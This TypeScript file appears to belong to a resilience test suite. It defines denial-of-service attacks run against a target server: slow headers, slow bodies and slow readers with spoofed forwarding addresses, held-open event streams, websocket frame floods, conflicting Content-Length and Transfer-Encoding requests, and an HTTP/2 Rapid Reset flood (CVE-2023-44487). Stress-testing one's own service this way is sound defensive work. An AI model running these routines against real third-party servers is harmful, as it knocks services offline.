import { randomUUID } from 'node:crypto';
import http2 from 'node:http2';
import net, { type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { ATTACKER, type Attack, type Target } from './attack';

interface Dribble {
  sockets: number;
  /** Written at once. */
  start(target: Target): string;
  /** Written each second after it. */
  drop?: string;
  /** Whether it takes what is answered. */
  reads: boolean;
}

/** Bare connections that take their time; who is cut off comes again. */
function dribble({ sockets, start, drop, reads }: Dribble): Attack['run'] {
  return async (target, end, tell) => {
    const { hostname, port } = new URL(target.url);
    const one = async () => {
      while (performance.now() < end) {
        const socket = net.connect(Number(port), hostname);
        let answered: string | undefined;
        const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
        socket.on('error', () => undefined);
        if (reads) {
          socket.on('data', (chunk) => {
            answered ??= chunk.toString('latin1', 9, 12);
          });
        }
        socket.write(start(target));
        const timer = drop ? setInterval(() => socket.writable && socket.write(drop), 1_000) : null;
        await Promise.race([closed, pause(end - performance.now())]);
        if (timer) clearInterval(timer);
        if (!reads && !socket.destroyed) answered ??= await firstOf(socket);
        tell(answered ?? (socket.destroyed ? 'cut off' : 'still open'));
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: sockets }, one));
  };
}

/** A reader that never read learns at the end whether it was cut off: what waits then is short. */
async function firstOf(socket: Socket): Promise<string> {
  let bytes = 0;
  socket.on('data', (chunk: Buffer) => (bytes += chunk.length));
  const closed = new Promise((resolve) => socket.once('close', () => resolve(true)));
  return (await Promise.race([closed, pause(8_000)])) ? 'cut off' : 'still open';
}

const head = (lines: string[], from = ATTACKER) =>
  [...lines, 'Host: x', `X-Forwarded-For: ${from}`].join('\r\n');
const whole = (lines: string[], from?: string) => `${head(lines, from)}\r\n\r\n`;
let bots = 0;
/** Each time from another address. */
const another = () => `198.18.1.${(bots += 1) % 200}`;
const times = (count: number, text: string) => Array.from({ length: count }, () => text).join('');

/** Connections that are used as nobody uses them. */
export const rawAttacks: Attack[] = [
  {
    name: 'slow headers',
    sent: '500 connections, a header line each second',
    seconds: 14,
    run: dribble({
      sockets: 500,
      start: () => `${head(['GET / HTTP/1.1'])}\r\n`,
      drop: 'X-A: b\r\n',
      reads: true,
    }),
  },
  {
    name: 'slow bodies',
    sent: '500 connections, a byte each second to `/contact`',
    seconds: 26,
    run: dribble({
      sockets: 500,
      start: () =>
        whole(['POST /contact HTTP/1.1', 'Content-Type: application/json', 'Content-Length: 900']),
      drop: ' ',
      reads: true,
    }),
  },
  {
    name: 'slow readers, pictures',
    sent: '200 connections of 200 addresses, which ask for a picture 200 times and read nothing',
    seconds: 40,
    run: dribble({
      sockets: 200,
      start: ({ picture }) => times(200, whole([`GET ${picture} HTTP/1.1`], another())),
      reads: false,
    }),
  },
  {
    name: 'slow readers, documents',
    sent: '200 connections of 200 addresses, which ask for home 200 times and read nothing',
    seconds: 40,
    run: dribble({
      sockets: 200,
      start: () => times(200, whole(['GET / HTTP/1.1'], another())),
      reads: false,
    }),
  },
  {
    name: 'live events without end',
    sent: '100 connections of one account to `/api/events`',
    run: dribble({
      sockets: 100,
      start: ({ cookie }) => whole(['GET /api/events HTTP/1.1', `Cookie: ${cookie}`]),
      reads: true,
    }),
  },
  {
    name: 'websocket upgrades',
    sent: '50 connections that ask to upgrade and then send frames',
    run: dribble({
      sockets: 50,
      start: () =>
        whole([
          'GET /api/events HTTP/1.1',
          'Connection: Upgrade',
          'Upgrade: websocket',
          'Sec-WebSocket-Version: 13',
          `Sec-WebSocket-Key: ${Buffer.from(randomUUID().slice(0, 16)).toString('base64')}`,
        ]),
      drop: '\u0081\u0085\u0000\u0000\u0000\u0000hello',
      reads: true,
    }),
  },
  {
    name: 'HTTP/2 without TLS, and two lengths',
    sent: '50 connections, the preface of HTTP/2 or both Content-Length and Transfer-Encoding',
    run: dribble({
      sockets: 50,
      start: () =>
        Math.random() < 0.5
          ? 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
          : `${whole(['POST /contact HTTP/1.1', 'Content-Length: 5', 'Transfer-Encoding: chunked'])}0\r\n\r\n`,
      reads: true,
    }),
  },
  {
    name: 'HTTP/2 at the front: streams opened and reset',
    sent: '4 connections, `GET /product/<made-up id>`, each stream reset at once (CVE-2023-44487)',
    run: resetStreams,
  },
];

async function resetStreams({ frontPort }: Target, end: number, tell: (what: string) => void) {
  if (frontPort === null) return tell('not tried: no caddy here');
  const one = async () => {
    while (performance.now() < end) {
      const session = http2.connect(`https://localhost:${frontPort}`, {
        rejectUnauthorized: false,
      });
      session.on('error', () => undefined);
      session.on('goaway', (code) => tell(`goaway ${code}`));
      let open = true;
      session.once('close', () => (open = false));
      while (open && performance.now() < end) {
        for (let n = 0; open && n < 50; n += 1) {
          try {
            const stream = session.request({ ':path': `/product/${randomUUID()}` });
            stream.on('error', () => undefined);
            stream.close(http2.constants.NGHTTP2_CANCEL);
            tell('reset');
          } catch {
            open = false;
          }
        }
        await pause(5);
      }
      session.destroy();
      await pause(50);
    }
  };
  await Promise.all(Array.from({ length: 4 }, one));
}
